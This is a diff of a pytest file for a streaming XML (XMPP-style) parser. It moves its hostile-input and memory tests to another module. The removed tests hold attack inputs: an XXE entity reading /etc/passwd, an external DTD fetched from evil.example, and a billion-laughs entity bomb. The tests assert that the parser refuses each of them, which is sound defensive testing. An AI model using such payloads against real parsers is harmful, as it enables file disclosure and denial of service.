@@ -1,51 +1,26 @@
-"""The PsEPR client stream, sans I/O (gateways/psepr/stream.py)."""
+"""The PsEPR client stream, sans I/O (gateways/psepr/stream.py): a session, and the edges of
+native tree building.
+
+Hostile input and the parser's memory are in :mod:`tests.gateways.test_stream_hostile`."""
 
 from __future__ import annotations
 
-import gc
-
-import psutil
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from lxml import etree
 
 from dsmt.event import LEASE, RECORD, Address, Sequencer
-from gateways.psepr import inbound, stream, xml
+from gateways.psepr import stream, xml
 from gateways.psepr.inbound import END, StreamParser
 from gateways.psepr.stream import StreamError, StreamHeader
 
-HEADER = stream.stream_header(to="router.example")
-EVENT = Sequencer(Address("monitor", "node17")).make(
-    "/org/dsmt/ns/deployment/s/plan/", RECORD, {"version": 3, "services": ["web"]}, retain=True)
-SESSION = b"".join([
-    HEADER,
-    stream.auth_get("a1", "monitor"),
-    b"\n  ",
-    stream.auth_set("a2", "monitor", "secret", "node17"),
-    stream.message_stanza(EVENT, to=stream.registry_jid("router.example")),
-    b"<presence/>",
-    stream.STREAM_END,
-])
+from tests.gateways.stream_samples import EVENT, HEADER, SESSION, feed_in_chunks, stream_error
 
 
 def _shape(items):
     """Items in comparable form: stanzas serialized, header and END as they are."""
     return [etree.tostring(i) if isinstance(i, etree._Element) else i for i in items]
-
-
-def _feed_in_chunks(data: bytes, cuts) -> list:
-    parser, items, last = StreamParser(), [], 0
-    for cut in sorted(cuts) + [len(data)]:
-        items += parser.feed(data[last:cut])
-        last = cut
-    return items
-
-
-def _stream_error(data: bytes, **kw) -> StreamError:
-    with pytest.raises(StreamError) as caught:
-        StreamParser(**kw).feed(data)
-    return caught.value
 
 
 # ---------------------------------------------------------------- a session
@@ -72,14 +47,14 @@ def test_stanzas_are_detached_elements_in_the_client_namespace():
 
 
 def test_feeding_byte_by_byte_yields_the_same_items_as_one_chunk():
-    assert _shape(_feed_in_chunks(SESSION, range(1, len(SESSION)))) == _shape(
+    assert _shape(feed_in_chunks(SESSION, range(1, len(SESSION)))) == _shape(
         StreamParser().feed(SESSION))
 
 
 @settings(max_examples=100, deadline=None)
 @given(st.lists(st.integers(0, len(SESSION)), max_size=30))
 def test_any_chunking_yields_the_same_items(cuts):
-    assert _shape(_feed_in_chunks(SESSION, cuts)) == _shape(StreamParser().feed(SESSION))
+    assert _shape(feed_in_chunks(SESSION, cuts)) == _shape(StreamParser().feed(SESSION))
 
 
 def test_the_router_side_of_the_login_reads_back_on_the_client():
@@ -146,172 +121,6 @@ def test_a_lease_grant_message_carries_the_lease_payload():
     assert stream.message_event(message) == grant
 
 
-# ---------------------------------------------------------------- hostile input
-
-LOL = b'<!ENTITY lol0 "lol">' + b"".join(
-    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
-
-
-@pytest.mark.parametrize("data,condition", [
-    (HEADER + b"<message><</message>", "not-well-formed"),
-    (b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams' xmlns='jabber:client'"
-     b" a='1' a='2'>", "not-well-formed"),
-    (HEADER + b"<message><body>x</message>", "not-well-formed"),
-    (HEADER + b"<message>\xff\xfe</message>", "not-well-formed"),
-    (HEADER + b"<message>&xxe;</message>", "not-well-formed"),
-    (HEADER + stream.STREAM_END + b"<message/>", "not-well-formed"),
-    (b"<!DOCTYPE stream:stream>" + HEADER, "restricted-xml"),
-    (b"<!DOCTYPE lolz [" + LOL + b"]>" + HEADER + b"<message>&lol9;</message>",
-     "restricted-xml"),
-    (b'<!DOCTYPE s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + HEADER
-     + b"<message>&xxe;</message>", "restricted-xml"),
-    (b'<!DOCTYPE s [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + HEADER,
-     "restricted-xml"),
-    (HEADER + b"<message><?php evil() ?></message>", "restricted-xml"),
-    (HEADER + b"<message><!-- x --></message>", "restricted-xml"),
-    (HEADER + b"<message>" + b"x" * (xml.MAX_STANZA + 2 * inbound.SLICE), "policy-violation"),
-    (HEADER + b"<message>" + b"<a>" * 64, "policy-violation"),
-    (b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams'"
-     b" xmlns='jabber:server'>", "invalid-namespace"),
-    (b"<stream:stream xmlns:stream='urn:wrong' xmlns='jabber:client'>", "invalid-namespace"),
-    (b"<stream xmlns='jabber:client'>", "invalid-namespace"),
-    (HEADER + b"<event xmlns='http://psepr.org/xs/event'/>", "unsupported-stanza-type"),
-    (HEADER + b"<foo/>", "unsupported-stanza-type"),
-    (HEADER + b"hello<message/>", "bad-format"),
-])
-def test_hostile_input_ends_the_stream_with_the_right_condition(data, condition):
-    assert _stream_error(data).condition == condition
-
-
-def test_a_billion_laughs_is_refused_at_once_whatever_the_chunking():
-    data = b"<!DOCTYPE lolz [" + LOL + b"]>" + HEADER + b"<message>&lol9;</message>"
-    with pytest.raises(StreamError) as caught:
-        _feed_in_chunks(data, range(1, len(data)))
-    assert caught.value.condition == "restricted-xml"
-
-
-def test_a_stanza_at_the_cap_passes_and_one_beyond_it_does_not():
-    body = lambda n: b"<message><body>" + b"x" * n + b"</body></message>"  # noqa: E731
-    at_cap = body(xml.MAX_STANZA - len(body(0)))
-    assert len(at_cap) == xml.MAX_STANZA
-    items = StreamParser().feed(HEADER + at_cap + at_cap)
-    assert len(items) == 3
-    over = body(xml.MAX_STANZA + 2 * inbound.SLICE)
-    assert _stream_error(HEADER + at_cap + over).condition == "policy-violation"
-
-
-def test_a_smaller_stanza_cap_is_honoured_byte_by_byte():
-    parser = StreamParser(max_stanza=4096)
-    parser.feed(HEADER)
-    with pytest.raises(StreamError) as caught:
-        for _ in range(10_000):
-            parser.feed(b"<message>" if _ == 0 else b"y")
-    assert caught.value.condition == "policy-violation"
-
-
-def test_an_endless_header_is_refused_by_the_cap():
-    header = b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams' a='"
-    assert _stream_error(header + b"x" * (xml.MAX_STANZA + 2 * inbound.SLICE)).condition == (
-        "policy-violation")
-
-
-def test_nesting_is_capped_with_the_stream_element_counted():
-    nested = lambda n: b"<a>" * n + b"</a>" * n  # noqa: E731
-    assert len(StreamParser().feed(HEADER + b"<message>" + nested(62) + b"</message>")) == 2
-    assert _stream_error(HEADER + b"<message>" + nested(63) + b"</message>").condition == (
-        "policy-violation")
-
-
-def test_a_dead_parser_keeps_raising_its_error():
-    parser = StreamParser()
-    with pytest.raises(StreamError) as first:
-        parser.feed(HEADER + b"<foo/>")
-    with pytest.raises(StreamError) as again:
-        parser.feed(b"<message/>")
-    assert again.value is first.value
-
-
-def test_whitespace_keepalives_between_stanzas_are_accepted():
-    parser = StreamParser()
-    parser.feed(HEADER)
-    for _ in range(2 * xml.MAX_STANZA // 1024):
-        assert parser.feed(b" " * 1024) == []
-    assert len(parser.feed(b"<presence/>")) == 1
-
-
-def _mutate(data: bytes, mutations) -> bytes:
-    for pos, cut, insert in mutations:
-        pos = min(pos, len(data))
-        data = data[:pos] + insert + data[pos + cut:]
-    return data
-
-
-MUTATIONS = st.lists(st.tuples(st.integers(0, len(SESSION)), st.integers(0, 4),
-                               st.binary(max_size=6) | st.sampled_from(
-                                   [b"<", b">", b"&", b"<!DOCTYPE x>", b"<?x?>", b"]]>",
-                                    b"<a>" * 70, b"\x00", b"\xc3", b"</stream:stream>"])),
-                     min_size=1, max_size=5)
-
-
-@settings(max_examples=300, deadline=None)
-@given(st.binary(max_size=300) | MUTATIONS.map(lambda ms: _mutate(SESSION, ms)),
-       st.lists(st.integers(0, 400), max_size=8))
-def test_garbage_and_mutated_streams_raise_only_stream_error(data, cuts):
-    try:
-        items = _feed_in_chunks(data, [c for c in cuts if c <= len(data)])
-    except StreamError as exc:
-        assert exc.condition in stream.CONDITIONS
-        return
-    for item in items:
-        assert isinstance(item, (StreamHeader, etree._Element)) or item is END
-
-
-# ---------------------------------------------------------------- memory
-
-
-def test_a_long_stream_does_not_grow_the_parser():
-    stanza = b"<message to='psepr_registry@r'><x xmlns='jabber:x:expire' seconds='60'/></message>"
-    batch = stanza * 500
-    parser = StreamParser()
-    parser.feed(HEADER)
-    count = 0
-
-    def run(batches: int) -> None:
-        nonlocal count
-        for _ in range(batches):
-            items = parser.feed(batch)
-            count += len(items)
-            del items
-
-    run(20)  # warm up: lxml's name dictionary, allocator pools
-    gc.collect()
-    rss = psutil.Process().memory_info().rss
-    run(180)
-    gc.collect()
-    grown = psutil.Process().memory_info().rss - rss
-    assert count == 100_000
-    # Keeping 90k stanzas (or a tree of the stream) would take tens of MB.
-    assert grown < 8 << 20, f"RSS grew by {grown} bytes over 90k stanzas"
-
-
-def test_the_deepest_encodable_payloads_still_fit_in_a_stream():
-    typed: list = []
-    for _ in range(xml.MAX_RECORD_DEPTH - 1):
-        typed = [typed]
-    raw = ("<p>" * (xml.MAX_DEPTH - 3) + "</p>" * (xml.MAX_DEPTH - 3)).replace(
-        "<p>", "<payload xmlns='urn:deep'>", 1)[:-4] + "</payload>"
-    sender = Sequencer(Address("s"))
-    events = [sender.make("/a/", RECORD, typed), sender.make("/a/", "urn:deep", {"xml": raw})]
-    parser = StreamParser()
-    parser.feed(HEADER)
-    for event in events:
-        (message,) = parser.feed(stream.message_stanza(event, to="psepr_registry@r"))
-        assert stream.message_event(message) == xml.event_from_bytes(xml.event_to_bytes(event))
-    too_deep = raw.replace("<p>", "<p><p>", 1).replace("</p>", "</p></p>", 1)
-    with pytest.raises(xml.XmlError, match="deeper"):
-        stream.message_stanza(sender.make("/a/", "urn:deep", {"xml": too_deep}), to="r")
-
-
 # ---------------------------------------------------------------- native tree building
 
 
@@ -327,7 +136,7 @@ def test_a_stanza_inheriting_the_stream_namespace_is_detached_with_it_declared()
 def test_whitespace_between_stanzas_is_dropped_however_it_is_cut():
     data = HEADER + b"\n <presence/>\n\t <presence/>  \n<presence/> "
     for cuts in ([], range(1, len(data)), [len(HEADER) + 3, len(HEADER) + 17]):
-        items = _feed_in_chunks(data, cuts)
+        items = feed_in_chunks(data, cuts)
         assert [etree.tostring(i) for i in items[1:]] == [
             b'<presence xmlns="jabber:client"/>'] * 3
 
@@ -348,7 +157,7 @@ def test_text_between_stanzas_is_refused_however_it_is_cut():
     b"\xff\xfe<\x00s\x00",                   # UTF-16, before any header
 ])
 def test_bytes_that_can_never_be_xml_are_refused_at_once(data):
-    assert _stream_error(data).condition == "not-well-formed"
+    assert stream_error(data).condition == "not-well-formed"
 
 
 @pytest.mark.parametrize("data", [b"qqq\xf1", b"qq", b" \n x<stream:stream>"])
@@ -357,14 +166,14 @@ def test_text_where_the_stream_should_start_is_refused_however_it_is_cut(data):
     # end), so whether a stream failed depended on how it was cut (a fuzz flake).
     for cuts in ([], range(1, len(data))):
         with pytest.raises(StreamError) as caught:
-            _feed_in_chunks(data, cuts)
+            feed_in_chunks(data, cuts)
         assert caught.value.condition == "not-well-formed"
 
 
 def test_a_utf8_sequence_cut_by_a_chunk_boundary_waits_for_its_end():
     data = HEADER + "<message><body>é</body></message>".encode()
     cut = data.index(b"\xc3") + 1
-    assert len(_feed_in_chunks(data, [cut])) == 2
+    assert len(feed_in_chunks(data, [cut])) == 2
 
 
 @pytest.mark.parametrize("prolog", [
@@ -376,7 +185,7 @@ def test_a_utf8_sequence_cut_by_a_chunk_boundary_waits_for_its_end():
 ])
 def test_a_bom_declaration_and_whitespace_before_the_header_pass_however_cut(prolog):
     data = prolog + HEADER[HEADER.index(b"<stream:"):] + b"<presence/>"
-    assert len(_feed_in_chunks(data, range(1, len(data)))) == 2
+    assert len(feed_in_chunks(data, range(1, len(data)))) == 2
 
 
 @pytest.mark.parametrize("prolog", [
@@ -386,16 +195,16 @@ def test_a_bom_declaration_and_whitespace_before_the_header_pass_however_cut(pro
 def test_comments_pis_and_doctypes_before_the_header_are_refused_byte_by_byte(prolog):
     data = prolog + HEADER[HEADER.index(b"<stream:"):]
     with pytest.raises(StreamError) as caught:
-        _feed_in_chunks(data, range(1, len(data)))
+        feed_in_chunks(data, range(1, len(data)))
     assert caught.value.condition == "restricted-xml"
 
 
 def test_nesting_past_libxml2s_own_limit_in_one_chunk_is_still_a_policy_violation():
-    assert _stream_error(HEADER + b"<message>" + b"<a>" * 300).condition == "policy-violation"
+    assert stream_error(HEADER + b"<message>" + b"<a>" * 300).condition == "policy-violation"
 
 
 def test_a_comment_after_the_stream_end_is_refused():
-    assert _stream_error(HEADER + stream.STREAM_END + b"<!-- x -->").condition == (
+    assert stream_error(HEADER + stream.STREAM_END + b"<!-- x -->").condition == (
         "restricted-xml")
 
 
